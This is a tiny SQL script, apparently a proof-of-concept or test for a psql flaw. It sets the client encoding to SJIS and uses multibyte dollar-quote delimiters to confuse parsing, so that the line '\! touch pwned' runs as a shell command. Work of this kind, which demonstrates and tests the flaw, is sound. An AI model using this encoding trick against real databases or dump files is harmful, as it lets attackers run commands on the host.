SET client_encoding = 'SJIS';
DO $、$ $。$ \r
COMMIT;
\! touch pwned
$、$; -- $。$ \r
SET client_encoding = 'UTF8';
